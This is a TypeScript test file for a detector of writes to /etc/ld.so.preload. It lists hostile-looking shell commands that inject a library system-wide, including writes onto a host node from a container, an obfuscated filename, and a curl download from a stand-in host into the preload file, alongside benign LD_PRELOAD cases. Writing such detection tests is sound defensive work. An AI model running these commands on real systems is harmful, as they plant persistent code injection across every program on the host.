import { indicatorTable, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandPreload } from './preload.ts';

indicatorTable(commandPreload, {
  fires: {
    'a line of its own': script('echo /usr/lib/libx.so > /etc/ld.so.preload'),
    'a line that is added': script('printf "%s\\n" /usr/lib/libx.so >> /etc/ld.so.preload'),
    'through tee, as another user': script('echo /usr/lib/libx.so | sudo tee -a /etc/ld.so.preload > /dev/null'),
    'on the node': scriptOn('/', 'cp /l.so /host/usr/lib/l.so; echo /usr/lib/l.so > /host/etc/ld.so.preload'),
    'the directory of the node mounted by itself': scriptOn('/etc', 'echo /l.so > /host/ld.so.preload'),
    'through a change of root': scriptOn('/', `chroot /host sh -c 'echo /l.so > /etc/ld.so.preload'`),
    'a copy of a file': script('cp /tmp/p /etc/ld.so.preload'),
    'a copy by dd': script('dd if=/tmp/p of=/etc/ld.so.preload'),
    'the name in pieces': script('F=preload; echo /l.so > "/etc/ld.so.$F"'),
    'after a change of directory': script('cd /etc && echo /l.so > ld.so.preload'),
    'a file that a client of the web writes': script('curl -so /etc/ld.so.preload https://dl.example.com/p'),
    'a change in place': script(`sed -i '1i /usr/lib/libx.so' /etc/ld.so.preload`),
  },
  staysSilent: {
    'a place of its own': script('echo a > /srv/ld.so.preload'),
    'a library in front of one program': script('LD_PRELOAD=/usr/lib/libjemalloc.so.2 /app/report'),
    'a library for all that the script starts': script('export LD_PRELOAD=/usr/lib/libfaketime.so.1; /app/report'),
    'its content is shown': script('cat /etc/ld.so.preload'),
    'a check that it is not there': script('test -e /etc/ld.so.preload && echo found'),
    'it is removed': script('rm -f /etc/ld.so.preload'),
    'directories of libraries': script('echo /usr/local/lib > /etc/ld.so.conf.d/local.conf; ldconfig'),
    'a copy for the support': script('cp /etc/ld.so.preload /tmp/report/'),
    'a file of another name': script('echo a > /tmp/ld.so.preload.txt'),
  },
  cannotTell: UNSEEN,
});
